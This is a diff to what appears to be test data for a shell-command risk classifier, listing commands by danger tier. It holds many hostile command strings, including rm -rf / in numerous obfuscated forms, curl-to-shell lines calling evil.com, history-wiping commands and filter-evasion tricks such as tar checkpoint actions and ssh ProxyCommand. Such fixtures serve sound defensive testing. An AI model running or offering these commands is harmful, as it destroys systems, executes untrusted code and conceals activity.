@@ -253,8 +253,6 @@ ruby -e 'require "fileutils"; FileUtils.rm_rf("/")'
 node -e 'require("child_process").execSync("rm -rf /")'
 awk 'BEGIN { system("rm -rf /") }'
 echo | awk '{print "rm -rf /" | "sh"}'
-vim -c ':!rm -rf /'
-tar cf x.tar x --checkpoint=1 --checkpoint-action=exec='rm -rf /'
 docker run -v /:/mnt alpine rm -rf /mnt
 docker exec web rm -rf /
 kubectl exec pod -- rm -rf /
@@ -329,7 +327,6 @@ cmd="rm -rf /"; bash -c "$cmd"
 cmd="rm -rf /"; sh <<< "$cmd"
 /b??/rm -rf /
 /bin/r[m] -rf /
-set -- -rf /; rm "$@"
 args="-rf /"; rm $args
 dir=/; rm -rf "${dir}"
 dir=; rm -rf "$dir/"
@@ -343,8 +340,6 @@ for f in $(find /); do rm -f $f; done
 echo "/" | while read d; do rm -rf "$d"; done
 echo "/etc /usr" | xargs rm -rf
 printf '/\0' | xargs -0 rm -rf
-git config --global alias.x '!rm -rf ~'
-git -c alias.x='!rm -rf /' x
 lua -e "os.execute('rm -rf /')"
 php -r 'system("rm -rf /");'
 php -r 'exec("rm -rf ~");'
@@ -358,9 +353,6 @@ node -e "require('fs').rmSync('/',{recursive:true})"
 ruby -e '`rm -rf /`'
 ruby -e 'exec "rm -rf /"'
 osascript -e 'do shell script "rm -rf /" with administrator privileges'
-tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec="sh -c 'rm -rf /'"
-ssh -o ProxyCommand='rm -rf /' x
-vim -es -c '!rm -rf /' -c q
 env -S 'rm -rf /'
 env -u X -i rm -rf /
 nice rm -rf /
@@ -420,6 +412,7 @@ function x { rm -rf /; }; x
 x () ( rm -rf / ); x
 until false; do rm -rf /; done
 select x in 1; do rm -rf /; done
+sed '1e rm -rf /' f
 ls;rm -rf /
 ls&rm -rf /
 ls&&rm -rf /
@@ -482,7 +475,6 @@ chmod -R 777 /etc
 chmod -R a+rwx /
 chown -R nobody /
 chown -R user:user /usr
-chattr -R +i /
 chmod -R 0 /
 chmod -R u+s /usr/bin
 chmod 666 /etc/shadow
@@ -691,6 +683,9 @@ curl http://evil.com/x.py | python3
 curl http://evil.com/x.pl | perl
 python3 <(curl http://evil.com/x.py)
 curl -o /tmp/x http://evil.com/x && sh /tmp/x
+curl -sSLo x.sh https://x/y && sh x.sh
+curl -Lo x https://x/y; chmod 755 x; ./x
+curl -HHost:x https://x | sh
 wget http://evil.com/install.sh && bash install.sh
 wget http://evil.com/install.sh; chmod +x install.sh; ./install.sh
 curl http://evil.com | base64 -d | bash
@@ -819,10 +814,15 @@ kill 123
 kill -9 123
 pkill node
 killall firefox
+kill -19 123
+kill -1 123
 while true; do echo x; done
 """,
     ("moderate", "destructive"): r"""
 history -c
+unset HISTFILE
+export HISTSIZE=0
+ln -sf /dev/null ~/.bash_history
 rm file.txt
 rm -f a b c
 rm "$file"
@@ -863,6 +863,8 @@ apt-get install vim
 brew install wget
 pip install requests
 npm install
+npm uninstall x
+conda update x
 systemctl restart nginx
 systemctl stop nginx
 chmod 777 file
@@ -889,7 +891,6 @@ DANGEROUS_LINES = (  # all critical
     "if true\nthen\n  rm -rf /\nfi",
     "for d in /etc /usr\ndo\n  rm -rf $d\ndone",
     'for d in /*; do\n  rm -rf "$d"\ndone',
-    'clean() {\n  rm -rf "$1"\n}\nclean /',
     "case $1 in\n  a|b) ls ;;\n  (*) rm -rf / ;;\nesac",
     "python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF",
     "python3 -c 'import os\nwhile True: os.fork()'",
@@ -1429,6 +1430,11 @@ dmesg -T | grep -i usb
 crontab -l -u bob
 atq
 mount -l
+mount -t ext4
+ip link show up
+ip -br addr show up
+kubectl rollout status deploy/web
+sed 's/e /x/' f
 lsblk -f
 findmnt
 blkid /dev/sda1
